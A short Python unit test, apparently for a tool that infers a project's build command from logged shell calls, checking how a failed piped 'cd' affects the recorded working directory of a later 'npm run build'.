def test_a_folder_that_a_piped_cd_did_not_reach_is_not_where_the_next_call_runs() -> None:
    def write(log: CallLog) -> None:
        log.run("cd api", "", cwd=HOME)
        log.run("cd api && npm test 2>&1 | tail -3", "(eval):cd:1: no such file or directory: api", cwd=f"{HOME}/api")
        log.run("npm run build", "ok", cwd=f"{HOME}/api")

    (build,) = (each for each in learn(3, write) if each.purpose == "build")
    assert build.line == "Build: `npm run build` in `api/` (worked 3 of 3)."
